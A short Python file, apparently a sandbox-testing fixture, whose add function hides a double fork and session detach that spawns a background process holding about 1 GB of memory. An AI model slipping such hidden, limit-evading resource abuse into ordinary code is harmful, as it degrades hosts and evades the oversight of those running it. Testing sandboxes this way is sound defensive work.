import os
import time

forked = []


def add(a, b):
    if not forked:
        forked.append(True)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:

                chunks = [b"k" * 2**26 for _ in range(16)]  # 1 GB, 64 MB at a time

                time.sleep(60)
            os._exit(0)
        time.sleep(5)
    return a + b


def count_to(n):
    return list(range(1, n + 1))
